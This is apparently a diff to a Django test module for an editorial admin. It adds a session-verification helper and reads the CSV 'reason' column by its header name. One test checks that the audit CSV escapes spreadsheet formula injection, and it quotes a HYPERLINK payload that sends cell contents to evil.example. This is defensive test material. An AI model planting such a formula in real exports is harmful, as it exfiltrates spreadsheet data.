@@ -13,6 +13,7 @@ from django.urls import reverse
 
 from articles.models import Article
 from editorial.workflow import services
+from tests.conftest import verify_session
 from tests.editorial.workspace.test_admin import change_form
 from tests.factories import make_article
 
@@ -108,7 +109,7 @@ def test_the_audit_csv_keeps_formulas_inert_and_opens_as_utf8_in_excel(client, a
     raw = b"".join(response.streaming_content)
     assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
     rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
-    reasons = [row[7] for row in rows[1:]]
+    reasons = [row[rows[0].index("reason")] for row in rows[1:]]
     assert '\'=HYPERLINK("http://evil.example/"&A1,"click")' in reasons
     cells = [cell for row in rows for cell in row]
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
@@ -121,6 +122,7 @@ def test_error_pages_are_the_sites_own_and_a_lost_database_is_a_503(editor, monk
 
     client = Client(raise_request_exception=False)
     client.force_login(editor)
+    verify_session(client, editor)
     assert "Editorial workspace" in client.get("/admin/articles/article/0/history/compare/").content.decode()
 
     def unreachable(self, *args, **kwargs):
